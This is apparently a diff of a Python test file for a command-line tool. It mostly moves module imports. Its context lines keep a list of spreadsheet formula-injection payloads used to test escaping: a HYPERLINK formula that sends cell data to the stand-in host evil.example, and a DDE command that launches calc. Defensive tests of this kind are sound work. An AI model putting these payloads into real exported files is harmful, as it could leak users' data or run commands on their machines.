@@ -12,8 +12,8 @@ import pytest
 from click.testing import CliRunner, Result
 
 from cli.main import main
-from shared.corrections import corrections
-from shared.results import DONE, FAILED, ResultRow, write_rows
+from shared.database.results import DONE, FAILED, ResultRow, write_rows
+from shared.improvement.corrections import corrections
 from testkit.factories import register_fake_model
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
@@ -100,7 +100,7 @@ def test_the_table_shows_controls_escaped(model_rows: str) -> None:
 def test_dead_letters_list_escapes_reasons_and_ids(redis_url: str, monkeypatch: pytest.MonkeyPatch) -> None:
     import redis
 
-    from worker.dead_letters import dead_letter_key, make_record
+    from shared.wire.dead_letters import dead_letter_key, make_record
 
     queue = "safety-dead-letters"
     monkeypatch.setenv("REDIS_URL", redis_url)
